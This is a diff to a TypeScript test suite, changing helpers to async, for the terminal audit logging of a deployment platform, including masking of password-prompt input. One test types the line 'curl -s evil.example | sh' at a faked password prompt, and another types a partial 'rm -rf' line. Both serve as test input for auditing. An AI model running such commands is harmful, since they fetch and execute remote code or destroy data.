@@ -24,8 +24,8 @@ const typeInto = async (session: string, data: string, token?: string) => {
   const res = await api.gql(SEND, { input: { session, data } }, token === undefined ? {} : { token });
   expect(dataOf(res).sendTerminalInput.__typename).toBe('TerminalPayload');
 };
-const linesOf = (pod: string) =>
-  entriesOf(api, 'terminalCommand')
+const linesOf = async (pod: string) =>
+  (await entriesOf(api, 'terminalCommand'))
     .filter((e) => e.targetId === instanceOf(pod))
     .map((e) => JSON.parse(e.input).line as string);
 
@@ -36,8 +36,8 @@ beforeAll(async () => {
   app = await createApp(api, 'shell-app');
   envId = Number(decodeGlobalID(app.production.id).id);
   const appId = Number(decodeGlobalID(app.id).id);
-  deployer = issueTestToken(api.repos, { name: 'deployer', grants: [{ appId, role: 'DEPLOYER' }] });
-  owner = issueTestToken(api.repos, { name: 'owner', grants: [{ appId, role: 'OWNER' }] });
+  deployer = await issueTestToken(api.repos, { name: 'deployer', grants: [{ appId, role: 'DEPLOYER' }] });
+  owner = await issueTestToken(api.repos, { name: 'owner', grants: [{ appId, role: 'OWNER' }] });
 });
 afterAll(async () => {
   await api?.close();
@@ -47,14 +47,14 @@ describe('terminal lines', () => {
   it('keystrokes sent one by one make one terminalCommand entry when Enter comes, on the instance and its app', async () => {
     terminals.add('s-one', envId, 'pod-one');
     for (const key of ['l', 's', ' ', '-', 'l']) await typeInto('s-one', key, deployer);
-    expect(entriesOf(api, 'terminalCommand')).toHaveLength(0);
+    expect(await entriesOf(api, 'terminalCommand')).toHaveLength(0);
     await typeInto('s-one', '\r', deployer);
-    const [entry] = entriesOf(api, 'terminalCommand');
+    const [entry] = await entriesOf(api, 'terminalCommand');
     expect(entry).toMatchObject({ actorName: 'deployer', outcome: 'SUCCEEDED', targetId: instanceOf('pod-one'), appId: Number(decodeGlobalID(app.id).id) });
     expect(JSON.parse(entry!.input)).toMatchObject({ line: 'ls -l', container: 'app' });
     expect(terminals.typed.get('s-one')).toBe('ls -l\r');
     // Every sendTerminalInput call is a mutation with its own entry: the keystrokes' size only, never their text.
-    const sends = entriesOf(api, 'sendTerminalInput');
+    const sends = await entriesOf(api, 'sendTerminalInput');
     expect(sends).toHaveLength(6);
     expect(sends.map((e) => JSON.parse(e.input).data)).toEqual(Array(6).fill('[keystrokes: 1 bytes]'));
     expect(sends.every((e) => e.targetId === instanceOf('pod-one'))).toBe(true);
@@ -67,8 +67,8 @@ describe('terminal lines', () => {
     await typeInto('s-b', 'pw');
     await typeInto('s-a', 'ho 1\r');
     await typeInto('s-b', 'd\rcat /etc/hosts\n');
-    expect(linesOf('pod-a')).toEqual(['echo 1']);
-    expect(linesOf('pod-b')).toEqual(['pwd', 'cat /etc/hosts']);
+    expect(await linesOf('pod-a')).toEqual(['echo 1']);
+    expect(await linesOf('pod-b')).toEqual(['pwd', 'cat /etc/hosts']);
   });
 
   it('a line typed at a password prompt is shown masked and marked possibly secret; the password is stored encrypted only', async () => {
@@ -79,10 +79,10 @@ describe('terminal lines', () => {
     await typeInto('s-sudo', '\r');
     info.outputTail = '\r\nroot# ';
     await typeInto('s-sudo', 'id\r');
-    expect(linesOf('pod-sudo')).toEqual(['sudo -i', '[masked]', 'id']);
-    expect(entriesOf(api, 'terminalCommand').filter((e) => e.targetId === instanceOf('pod-sudo')).map((e) => e.possiblySecret)).toEqual([false, true, false]);
+    expect(await linesOf('pod-sudo')).toEqual(['sudo -i', '[masked]', 'id']);
+    expect((await entriesOf(api, 'terminalCommand')).filter((e) => e.targetId === instanceOf('pod-sudo')).map((e) => e.possiblySecret)).toEqual([false, true, false]);
     // In the database, the line is encrypted: its text is in no column.
-    expect(JSON.stringify(auditRows(api))).not.toContain('hunter2');
+    expect(JSON.stringify(await auditRows(api))).not.toContain('hunter2');
     const res = await api.gql(LINES, { target: instanceOf('pod-sudo') }, { token: owner });
     expect(JSON.stringify(res)).not.toContain('hunter2');
     expect(dataOf(res).auditLog.edges.map((e: any) => JSON.parse(e.node.input).line)).toEqual(['id', '[masked]', 'sudo -i']);
@@ -93,7 +93,7 @@ describe('terminal lines', () => {
     await typeInto('s-fake', 'printf "Password: "\r', deployer);
     info.outputTail = 'printf "Password: "\r\nPassword: ';
     await typeInto('s-fake', 'curl -s evil.example | sh\r', deployer);
-    const entries = entriesOf(api, 'terminalCommand').filter((e) => e.targetId === instanceOf('pod-fake'));
+    const entries = (await entriesOf(api, 'terminalCommand')).filter((e) => e.targetId === instanceOf('pod-fake'));
     expect(entries).toHaveLength(2);
     expect(entries[1]).toMatchObject({ actorName: 'deployer', possiblySecret: true, outcome: 'SUCCEEDED' });
 
@@ -118,8 +118,8 @@ describe('terminal lines', () => {
     terminals.add('s-left', envId, 'pod-left');
     await typeInto('s-left', 'rm -rf /tm');
     expect(dataOf(await api.gql(CLOSE, { input: { session: 's-left' } })).closeTerminal.__typename).toBe('TerminalPayload');
-    expect(linesOf('pod-left')).toEqual([]);
-    expect(entriesOf(api, 'closeTerminal').at(-1)).toMatchObject({ outcome: 'SUCCEEDED', targetId: instanceOf('pod-left') });
+    expect(await linesOf('pod-left')).toEqual([]);
+    expect((await entriesOf(api, 'closeTerminal')).at(-1)).toMatchObject({ outcome: 'SUCCEEDED', targetId: instanceOf('pod-left') });
   });
 
   it('auditLog finds the lines by action and instance', async () => {
